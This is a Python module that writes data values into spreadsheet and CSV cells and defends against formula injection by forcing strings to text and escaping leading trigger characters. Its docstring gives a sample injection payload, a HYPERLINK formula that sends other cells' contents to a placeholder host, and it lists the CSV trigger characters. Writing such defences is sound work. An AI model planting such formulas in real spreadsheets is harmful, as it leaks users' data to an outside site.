"""How a value from the data becomes a spreadsheet cell: decided once, here, for every writer.

A spreadsheet evaluates any cell that starts with ``=``, and openpyxl stores any string that
starts with ``=`` as a formula. A supplier named ``=HYPERLINK("http://x.example/?"&A2)`` would
then send other cells to a web site when the sheet is opened (OWASP calls it CSV or formula
injection). So every writer of the toolkit turns values into cells with these functions:

* a string is ALWAYS text (``data_type = "s"``), whatever column it sits in and whatever it
  starts with; characters a spreadsheet cannot hold (control characters) become U+FFFD and
  carriage returns line feeds (:func:`clean_text`);
* a number is a number, a boolean a boolean, a date or datetime a date (with a date format
  unless the caller gives one), a missing value (None, NaN, NA, NaT) an empty cell.

:func:`data_cell` makes a cell for openpyxl's write-only sheets, :func:`set_data_cell` fills a
cell of a normal sheet (or reuses a write-only cell), :func:`python_values` converts a whole
column at once, :func:`csv_safe` neutralises text for a CSV file (OWASP: a ``'`` before
``= + - @``, tab and carriage return), :func:`csv_safe_frame` a whole table and
:func:`write_csv` writes one.
:func:`check_row_count` refuses a table larger than a sheet can hold (:data:`EXCEL_MAX_ROWS`)
before anything is written, and :func:`fix_properties` pins a workbook's dates and author, so
the same data give the same bytes (see also :func:`save_reproducibly`).
"""

from __future__ import annotations

import datetime as dt
import io
import math
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, TIME_FORMATS
from openpyxl.writer.excel import ExcelWriter

EXCEL_MAX_ROWS = 1_048_576
"""Rows in one Excel sheet, the header included (Excel's and LibreOffice's limit)."""
DATE_FORMAT = "yyyy-mm-dd hh:mm"
"""The number format of a datetime cell when the writer gives none."""
CREATOR = "pocmvp"
FIXED_ZIP_TIME = (1980, 1, 1, 0, 0, 0)
"""The timestamp of every entry of a reproducible .xlsx (the zip format's earliest date)."""
CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a CSV field as a formula (OWASP)."""


class TooManyRowsError(ValueError):
    """A table has more rows than one spreadsheet sheet can hold."""

    def __init__(self, rows: int, *, header_rows: int = 1, sheet: str = "") -> None:
        self.rows = rows
        self.limit = EXCEL_MAX_ROWS
        where = f"sheet {sheet!r}" if sheet else "one sheet"
        super().__init__(
            f"{rows:,} rows (+{header_rows} header) do not fit in {where}: a spreadsheet holds "
            f"at most {EXCEL_MAX_ROWS:,} rows including the header; split the table (say, by "
            "month) or filter it first"
        )


def check_row_count(rows: int, *, header_rows: int = 1, sheet: str = "") -> int:
    """``rows`` if that many data rows (plus ``header_rows``) fit in a sheet, else raise
    :class:`TooManyRowsError` (a ValueError) naming the count and the limit."""
    if rows + header_rows > EXCEL_MAX_ROWS:
        raise TooManyRowsError(rows, header_rows=header_rows, sheet=sheet)
    return rows


def clean_text(text: str) -> str:
    """Text a spreadsheet can hold: control characters become U+FFFD, and a carriage return
    a line feed (an .xlsx is XML, whose readers turn one into the other anyway; doing it
    here means the text read back is the text written)."""
    if "\r" in text:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)


def is_missing(value: object) -> bool:
    """None, NaN, pandas' NA or NaT: an empty cell."""
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    return isinstance(value, float | np.floating) and math.isnan(value)


def cell_value(value: object) -> object:
    """The Python value a cell holds for ``value``: None (missing), str, bool, int, float,
    datetime or date. Anything else is shown as its text."""
    if type(value) is str:  # the commonest case first: a workbook writes millions of cells
        return clean_text(value)
    if is_missing(value):
        return None
    if isinstance(value, str):
        return clean_text(value)
    if isinstance(value, bool | np.bool_):
        return bool(value)
    if isinstance(value, int | np.integer):
        return int(value)
    if isinstance(value, float | np.floating):
        return float(value) if math.isfinite(value) else clean_text(str(value))
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, np.datetime64):
        value = pd.Timestamp(value).to_pydatetime()
    if isinstance(value, dt.datetime):
        # A spreadsheet has no time zones: keep the wall-clock time in UTC.
        if value.tzinfo is not None:
            value = value.astimezone(dt.UTC).replace(tzinfo=None)
        return value
    if isinstance(value, dt.date | dt.time):
        return value
    return clean_text(str(value))


def python_values(values: pd.Series) -> list:
    """:func:`cell_value` of every value of a column, fast for numeric and date columns."""
    if pd.api.types.is_bool_dtype(values) and not values.hasnans:
        return [bool(v) for v in values.to_numpy()]
    if pd.api.types.is_numeric_dtype(values) and not pd.api.types.is_bool_dtype(values):
        numbers = values.to_numpy(dtype="float64", na_value=np.nan)
        if pd.api.types.is_integer_dtype(values):
            return [None if math.isnan(v) else int(v) for v in numbers]
        return [None if math.isnan(v) else float(v) for v in numbers]
    return [cell_value(v) for v in values]


def set_data_cell(cell, value: object, number_format: str | None = None):
    """Put ``value`` into ``cell`` (a normal sheet's cell, or a reused write-only cell) by the
    rules of this module; return the cell. Strings are stored as text, never as formulas."""
    if type(value) is not float or not math.isfinite(value):  # a finite float is ready
        value = cell_value(value)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # never a formula, even for "=HYPERLINK(...)"
    if number_format is not None:
        cell.number_format = number_format
    elif isinstance(value, dt.datetime) and cell.number_format == TIME_FORMATS[dt.datetime]:
        cell.number_format = DATE_FORMAT  # openpyxl's default shows seconds nobody records
    return cell


def data_cell(sheet, value: object, number_format: str | None = None, **style) -> WriteOnlyCell:
    """A cell for ``sheet`` (a write-only sheet) holding ``value`` by the rules of this module;
    ``style`` sets attributes such as ``font`` or ``alignment``."""
    cell = set_data_cell(WriteOnlyCell(sheet), value, number_format)
    for key, setting in style.items():
        setattr(cell, key, setting)
    return cell


def csv_safe(text: object) -> object:
    """``text`` as a CSV field a spreadsheet will not evaluate: a ``'`` before a leading
    ``= + - @``, tab or carriage return (OWASP). Non-strings are returned unchanged."""
    if isinstance(text, str) and text.startswith(CSV_TRIGGERS):
        return "'" + text
    return text


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells went through :func:`csv_safe` (numbers, dates and
    missing values untouched), ready for ``to_csv``."""
    safe = frame.copy()
    for name in safe.columns:
        column = safe[name]
        if not (
            pd.api.types.is_numeric_dtype(column) or pd.api.types.is_datetime64_any_dtype(column)
        ):
            safe[name] = column.map(csv_safe).astype(column.dtype)
    return safe


def write_csv(frame: pd.DataFrame, target, **options) -> None:
    """Write ``frame`` as CSV to ``target`` (a path or a text buffer) with every text cell made
    safe (:func:`csv_safe_frame`), no index, and RFC 4180's CRLF line ends, which also make
    the writer quote a field holding a lone carriage return (with LF ends it would split the
    row). ``options`` go to :meth:`pandas.DataFrame.to_csv`."""
    options = {"index": False, "lineterminator": "\r\n", **options}
    csv_safe_frame(frame).to_csv(target, **options)


def fix_properties(book, when: dt.datetime | dt.date) -> None:
    """Pin the workbook's creation and modification dates to ``when`` and its author to
    :data:`CREATOR`, so writing the same data twice gives the same document properties."""
    if not isinstance(when, dt.datetime):
        when = dt.datetime.combine(when, dt.time(0, 0))
    when = cell_value(when)
    book.properties.created = when
    book.properties.modified = when
    book.properties.creator = CREATOR
    book.properties.lastModifiedBy = CREATOR


def save_reproducibly(book, path: str | Path, when: dt.datetime | dt.date) -> Path:
    """Save ``book`` to ``path`` with fixed properties (:func:`fix_properties`) and every zip
    entry stamped :data:`FIXED_ZIP_TIME`: the same workbook gives the same bytes."""
    fix_properties(book, when)
    if book.write_only and not book.worksheets:
        book.create_sheet()
    buffer = io.BytesIO()
    # openpyxl's Workbook.save stamps "modified" with the clock: its writer, called directly,
    # keeps the fixed date.
    ExcelWriter(book, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, allowZip64=True)).save()
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            fixed = zipfile.ZipInfo(entry.filename, date_time=FIXED_ZIP_TIME)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = entry.external_attr
            target.writestr(fixed, source.read(entry.filename))
    path.write_bytes(out.getvalue())
    return path
